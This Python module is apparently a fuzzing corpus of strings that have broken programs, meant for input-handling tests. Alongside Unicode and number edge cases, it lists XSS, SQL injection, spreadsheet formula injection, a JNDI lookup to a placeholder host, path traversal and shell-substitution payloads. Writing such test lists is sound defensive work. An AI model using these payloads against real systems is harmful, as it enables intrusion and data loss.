"""Text that has broken programs before: each line is only text here, wherever it is put."""

from __future__ import annotations

# Written for this program; what each group is about stands beside it.
MARKUP = (
    "<b>bold</b>",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<a href='javascript:alert(1)'>here</a>",
    "&lt;&amp;&#60;&nbsp;",
    "<!-- --><![CDATA[ ]]>",
    "<para><font size='99'>huge</font></para>",
    "</td></tr></table>",
    "<html><body onload=x>",
    "{\\rtf1 x}",
)
QUERIES = (
    "'; DROP TABLE patron; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; UPDATE posting SET amount_fen = 0",
    "x') UNION SELECT password_hash FROM staff --",
    "%' ESCAPE '!",
    "NEAR(a b, 3) AND *",
    "-title:secret OR ^x",
    '"unbalanced',
    "a* OR b*) (",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/","x")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    ' =IMPORTXML("x")',
)
TEMPLATES = (
    "{name}",
    "{0.__class__.__init__.__globals__}",
    "{{7*7}}",
    "${jndi:ldap://192.0.2.1/a}",
    "%s%s%s%n",
    "%(name)s",
    "%1 %2 %99",
    "$name $$ ${x",
    "{",
    "}{",
)
LINES = (
    "one\ntwo",
    "one\r\nBcc: somebody@192.0.2.1",
    "one\rtwo",
    "a\u2028b\u2029c",
    "a\vb\fc",
    "a\0b",
    "\0",
    "\x1b[31mred\x1b[0m",
    "\x07\x08\x7f",
    "tab\tin\tside",
)
DIRECTIONS = (
    "abc\u202etxt.exe",
    "\u2066isolated\u2069",
    "\u200f\u200e",
    "مرحبا بالعالم",
    "שלום ABC 123",
    "\u202d\u202e\u202a\u202b\u202c",
)
SIGNS = (
    "\u200b\u200c\u200d\ufeff",
    "Z\u0351\u036b\u0343A\u0340L\u0341G\u0342O\u0343" * 5,
    "👩\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈 🇨🇳",
    "𠮷𠀀𪚥",
    "ﬁ ﷺ ½ Ⅷ ㎡",
    "ｆｕｌｌ　ｗｉｄｔｈ １２３",
    "İıſẞß",
    "é e\u0301",
    "\ud800",
    "half \udfff other",
    "\ufffe\uffff",
    "\U0010ffff",
    "　",
    "\u00a0",
    "·••‧・",
    "囍龘䶮㐂𮧵",
    "①②③㈱㊣",
    "ÅÅÅ",
)
PLACES = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "CON",
    "aux.txt",
    "a/b:c*d?e",
    "file:///etc/hosts",
    "~root",
    "-rf",
    "--help",
    "$(reboot)",
    "`id`",
    "| ls",
    "http://192.0.2.1:99999/%00",
)
NUMBERS = (
    "0",
    "-0",
    "-1",
    "1e309",
    "NaN",
    "Infinity",
    "0x1F",
    "1_000",
    "９９９９９９９９９９９９９９９９９９９９",
    "99999999999999999999999999999999999999",
    "1.005",
    "1,234.5",
    "１２．５０",
    "٣٫١٤",
    "Ⅻ",
    "²",
    "2026-02-30",
    "0000-00-00",
    "9999-12-31",
    "10000-01-01",
    "24:61",
)
LONG = (
    "长" * 10_000,
    "a" * 65_537,
    " " * 5_000,
    "a b " * 3_000,
    "\n" * 2_000,
    "(" * 3_000,
)
EMPTY = ("", " ", "\t", "null", "None", "undefined", "true", "[]", "{}")

EVERY: tuple[str, ...] = (
    *(*MARKUP, *QUERIES, *FORMULAS, *TEMPLATES, *LINES, *DIRECTIONS),
    *(*SIGNS, *PLACES, *NUMBERS, *LONG, *EMPTY),
)
